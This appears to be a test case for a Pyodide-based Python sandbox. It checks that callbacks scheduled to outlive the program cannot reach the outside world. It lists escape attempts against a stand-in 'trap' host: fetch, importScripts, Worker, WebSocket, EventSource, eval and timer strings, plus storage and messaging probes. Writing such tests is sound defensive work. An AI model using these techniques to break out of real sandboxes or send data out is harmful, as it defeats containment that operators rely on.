"""Leave callbacks behind that speak to the world once the program has ended.

Ends: done
Prints: begun
"""

import time

from pyodide.ffi import create_proxy, to_js
from pyodide.webloop import scheduleCallback

ATTEMPTS = [
    lambda scope: scope.fetch("http://trap/fetch"),
    lambda scope: scope.importScripts("http://trap/script.js"),
    lambda scope: scope.Worker.new("http://trap/worker.js"),
    lambda scope: scope.WebSocket.new("http://trap/socket"),
    lambda scope: scope.EventSource.new("http://trap/events"),
    lambda scope: scope.caches.open("pwned"),
    lambda scope: scope.indexedDB.open("pwned"),
    lambda scope: scope.BroadcastChannel.new("pwned").postMessage("pwned"),
    lambda scope: scope.postMessage(to_js({"kind": "output", "text": "REACHED"})),
    lambda scope: scope.eval("fetch('http://trap/eval')"),
    lambda scope: scope.setTimeout("fetch('http://trap/timer')", 0),
]


def reach(scope=None, *_):
    for attempt in ATTEMPTS:
        try:
            attempt(scope)
        except Exception:
            continue


for delay in range(20):
    scheduleCallback(create_proxy(reach, capture_this=True), delay)
# All are due as it ends, and call back at once.
start = time.perf_counter()
while time.perf_counter() < start + 0.1:
    pass
print("begun")
